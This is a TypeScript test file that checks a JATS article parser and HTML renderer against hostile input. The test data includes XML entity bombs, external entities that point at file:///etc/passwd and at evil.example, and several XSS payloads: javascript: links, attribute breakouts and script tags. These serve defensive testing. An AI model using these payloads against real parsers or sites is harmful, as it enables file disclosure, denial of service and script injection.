import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { FullText } from "@/app/_jats/full-text";
import { documentOf } from "@/lib/catalog/jats/document";
import { frontOf } from "@/lib/catalog/jats/front";
import { parseXml, within, XmlFault } from "@/lib/catalog/jats/xml-tree";

const utf16be = (text: string): Buffer => Buffer.from(text, "utf16le").swap16();

describe("a file", () => {
  test.each<[string, string | Buffer, RegExp]>([
    [
      "a bomb of entities nested ten deep",
      `<!DOCTYPE a [${Array.from({ length: 10 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join("")}]><a>&e10;</a>`,
      /entities of its own/,
    ],
    [
      "a parameter entity",
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
      /entities of its own/,
    ],
    ["an external entity in lower case", '<!DOCTYPE a [<!entity x SYSTEM "file:///etc/passwd">]><a>&x;</a>', /entit/i],
    ["ten thousand levels", `${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`, /deeper than 200/],
    ["a zero byte", "<a>\0</a>", /line 1/],
    ["a zero byte by its number", "<a>&#0;</a>", /line 1/],
    ["half a character", Buffer.from('<?xml version="1.0"?><a>\xe2\x82</a>', "latin1"), /not in utf-8/],
    ["UTF-8 that says it is UTF-16", '<?xml version="1.0" encoding="UTF-16"?><a>x</a>', /line 1|not in UTF-16/],
    [
      "half a pair in UTF-16",
      Buffer.concat([Buffer.from("\ufeff<a>", "utf16le"), Buffer.from([0, 0xd8]), Buffer.from("</a>", "utf16le")]),
      /not in utf-16le/,
    ],
    ["an attribute given twice", '<a b="1" b="2"/>', /line 1/],
    ["a prefix of no namespace", "<x:a/>", /line 1/],
    ["a second root", "<a/>\n<b/>", /line 2/],
    ["half a million elements and more", `<a>${"<b/>".repeat(500_001)}</a>`, /more than 500000 elements/],
  ])("with %s is refused, and the place is said", (_, xml, fault) => {
    expect(() => parseXml(Buffer.from(xml))).toThrow(XmlFault);
    expect(() => parseXml(Buffer.from(xml))).toThrow(fault);
  });

  test.each<[string, Buffer]>([
    ["UTF-16 without its mark", Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a>ä</a>', "utf16le")],
    ["UTF-16 the other way round, without its mark", utf16be('<?xml version="1.0" encoding="UTF-16"?><a>ä</a>')],
    ["UTF-16 the other way round", utf16be("\ufeff<a>ä</a>")],
    ["UTF-16 that says it is UTF-8", Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-8"?><a>ä</a>', "utf16le")],
    [
      "UTF-8 with its mark that says it is ISO-8859-1",
      Buffer.from('\ufeff<?xml version="1.0" encoding="ISO-8859-1"?><a>ä</a>'),
    ],
    ["windows-1252", Buffer.from('<?xml version="1.0" encoding="windows-1252"?><a>\xe4</a>', "latin1")],
  ])("in %s is read", (_, bytes) => {
    expect(parseXml(bytes).children).toEqual(["ä"]);
  });

  test("of very many parts is read and arranged in no more than its length", () => {
    const many = 120_000;
    const xml = `<article><front><article-meta><kwd-group>${"<kwd>k</kwd>".repeat(many)}</kwd-group></article-meta></front>
<body><p id="t">${'<xref rid="t">x</xref>'.repeat(many)}</p><p id="t"/></body></article>`;
    const root = parseXml(Buffer.from(xml));
    expect(within(root, "kwd")).toHaveLength(many);
    expect(documentOf(root).citedAt("t")).toHaveLength(many);
  });
});

test("an article with a thousand authors at places of their own is read", () => {
  const authors = Array.from(
    { length: 1_000 },
    (_, i) =>
      `<contrib contrib-type="author"><name><surname>N${i}</surname></name><xref ref-type="aff" rid="a${i}"/></contrib>`,
  );
  const places = Array.from({ length: 1_000 }, (_, i) => `<aff id="a${i}">Place ${i}</aff>`);
  const { article } = frontOf(
    parseXml(
      Buffer.from(`<article><front><journal-meta><issn>2049-3630</issn><journal-title>J</journal-title></journal-meta>
<article-meta><article-id pub-id-type="doi">10.5555/many</article-id><title-group><article-title>Many</article-title></title-group>
<contrib-group>${authors.join("")}</contrib-group>${places.join("")}<pub-date><year>2020</year></pub-date><volume>1</volume><fpage>1</fpage></article-meta></front></article>`),
    ),
  );
  expect(article.affiliations).toHaveLength(1_000);
  expect(article.authors.at(-1)).toMatchObject({ family: "N999", affiliations: [1_000] });
});

test.each([
  ["a mail with more than a mailbox", "<email>a@example.org?bcc=b@example.org</email>", /mailto/],
  ["a mail that runs", '<ext-link xlink:href="mailto:javascript:alert(1)">x</ext-link>', /href/],
  ["a link that runs behind blanks", '<ext-link xlink:href="&#9; javascript:alert(1)">x</ext-link>', /href/],
  ["a link to a file", '<ext-link xlink:href="file:///etc/passwd">x</ext-link>', /href/],
  ["a link without a scheme to another host", '<ext-link xlink:href="//evil.example/">x</ext-link>', /href/],
  ["a DOI that is a script", '<pub-id pub-id-type="doi">javascript:alert(1)</pub-id>', /href/],
  [
    "a language that breaks out",
    '<italic><named-content xml:lang="x&quot; onload=&quot;y">x</named-content></italic>',
    /lang=|onload/,
  ],
  [
    "a list that is no list",
    '<list list-type="&quot;&gt;&lt;script&gt;"><list-item><p>x</p></list-item></list>',
    /<script/,
  ],
  ["a label that is a page", "<fn><label>&lt;script&gt;</label><p>x</p></fn>", /<script/],
])("%s is harmless", (_, body, harm) => {
  const xml = `<article xmlns:xlink="http://www.w3.org/1999/xlink"><body><p>${body}</p></body></article>`;
  const html = renderToStaticMarkup(
    createElement(FullText, { document: documentOf(parseXml(Buffer.from(xml))), files: () => undefined }),
  );
  expect(html.replaceAll(/ href="#t-note-1(?:-mark)?"/g, "")).not.toMatch(harm);
});
